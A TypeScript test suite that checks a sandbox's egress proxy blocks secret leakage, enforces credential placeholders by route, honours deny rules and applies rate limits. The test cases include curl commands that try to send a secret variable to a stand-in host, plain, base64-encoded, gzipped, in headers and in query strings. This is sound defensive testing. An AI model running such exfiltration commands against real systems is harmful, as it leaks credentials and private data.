import { describe, expect, test } from "vitest";
import { secretValue, type Route } from "@bottle/manifest";
import { readFileSync } from "node:fs";
import { allowedHost, otherHost, realToken, run } from "./rig.ts";
import { sharedBottle } from "./shared-bottle.ts";
import type { ConformanceSetup } from "./suite.ts";

const given = `given-${crypto.randomUUID()}`;
const listed = `listed-${crypto.randomUUID()}`;
const placeholder = `bottle-${crypto.randomUUID().replaceAll("-", "")}`;
const routes: readonly Route[] = [
  { host: allowedHost, paths: ["/v1/**"], auth: { scheme: "placeholder", tokenRef: "REAL_TOKEN" } },
  { host: otherHost, methods: ["GET", "POST"], paths: ["/block"] },
  { host: otherHost, methods: ["GET", "POST"], paths: ["/warn"], dlp: "warn" },
  { host: otherHost, paths: ["/off"], dlp: "off" },
  { host: otherHost, paths: ["/block/admin/**"], deny: true },
  { host: otherHost, methods: ["PUT"], paths: ["/often"], limits: { requestsPerMinute: 2 } },
];

/** What leaves by a route is looked through first, and a credential is put in where its placeholder stands. */
export function leakPromises(setup: ConformanceSetup): void {
  describe("what leaves", () => {
    const { rig, bottle } = sharedBottle(setup, ({ internet }) => ({
      env: { REAL_TOKEN: placeholder }, secretEnv: { GIVEN: secretValue(given) },
      egress: {
        declaration: { routes, hosts: internet.hostOverrides, caFiles: [], allowPrivate: [], dlp: { engine: "builtin" } },
        tokens: { REAL_TOKEN: secretValue(realToken) }, upstreamCas: [internet.caCertificate],
        secrets: { "listed:1": secretValue(listed) }, placeholders: { REAL_TOKEN: placeholder },
      },
    }));
    const arrived = (): number => rig().internet.requests.length;
    const events = async (): Promise<string> => {
      await rig().backend.refresh(bottle().identity, "record");
      return readFileSync(rig().state.directory(bottle().identity).audit, "utf8");
    };

    test.each([
      ["what the bottle was given, in a body", `-d "x=$GIVEN"`, ""],
      ["the same in base64", `-d "$(printf %s "$GIVEN" | base64 -w0)"`, ""],
      ["the same in a header", `-H "X-A: $GIVEN"`, ""],
      ["the same compressed", `--data-binary @- -H 'Content-Encoding: gzip'`, `printf %s "$GIVEN" | gzip | `],
      ["a value of a listed file, in the query", `-G -d 'q=${listed}'`, ""],
    ])("%s is refused, told where, and does not arrive", async (_, flags, before) => {
      const count = arrived();
      const { out } = await run(bottle(), `${before}curl -sS https://${otherHost}/block ${flags}`);
      expect(JSON.parse(out)).toMatchObject({ layer: "dlp", reason: "secret-found", retry: "never", where: expect.arrayContaining([expect.any(String)]) });
      expect(out).not.toContain(given);
      expect(arrived()).toBe(count);
    });

    test("on a route that warns it passes, and is on record without its text", async () => {
      const { code } = await run(bottle(), `curl -fsS https://${otherHost}/warn -d "x=$GIVEN"`);
      expect(code).toBe(0);
      await expect.poll(events, { timeout: 10_000 }).toContain("\"path\":\"/warn\"");
      expect(await events()).toMatch(/"rule":"GIVEN"[^\n]*"path":"\/warn"/);
      expect(await events()).not.toContain(given);
    });

    test("a placeholder becomes the credential on its own route, and elsewhere is refused with an alarm", async () => {
      const { code } = await run(bottle(), `curl -fsS https://${allowedHost}/v1/hello -H "X-Key: $REAL_TOKEN"`);
      expect(code).toBe(0);
      expect(rig().internet.requests.at(-1)?.headers["x-key"]).toBe(realToken);
      const { out } = await run(bottle(), `curl -sS https://${otherHost}/off -H "X-Key: $REAL_TOKEN"`);
      expect(JSON.parse(out)).toMatchObject({ reason: "placeholder-misused" });
      await expect.poll(events, { timeout: 10_000 }).toContain("\"alarm\":true");
    });

    test("a credential that got inside does not leave, even by a route that scans nothing", async () => {
      const { out } = await run(bottle(), `curl -sS https://${otherHost}/off -H 'X-Key: ${realToken}'`);
      expect(JSON.parse(out)).toMatchObject({ reason: "secret-found" });
    });

    test("a deny route wins, and a limit holds", async () => {
      expect((await run(bottle(), `curl -sS https://${otherHost}/block/admin/x`)).out).toContain("route-denied");
      const { out } = await run(bottle(), `for i in 1 2 3; do curl -sS -o /dev/null -w '%{http_code} ' -X PUT https://${otherHost}/often; done`);
      expect(out).toMatch(/^2\d\d 2\d\d 429 $/);
    });
  });
}
